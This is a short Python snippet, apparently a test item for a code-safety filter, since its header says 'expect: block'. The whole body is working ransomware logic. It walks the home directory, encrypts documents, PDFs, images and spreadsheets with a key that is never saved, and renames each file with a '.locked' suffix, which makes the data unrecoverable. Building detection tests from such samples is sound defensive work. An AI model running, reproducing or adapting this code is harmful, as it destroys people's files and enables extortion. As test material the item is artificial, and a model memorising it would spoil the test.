# expect: block
import os
from pathlib import Path
from cryptography.fernet import Fernet
key = Fernet.generate_key()
f = Fernet(key)
for p in Path.home().rglob("*"):
    if p.is_file() and p.suffix in {".docx", ".pdf", ".jpg", ".xlsx"}:
        p.write_bytes(f.encrypt(p.read_bytes()))
        p.rename(p.with_suffix(p.suffix + ".locked"))
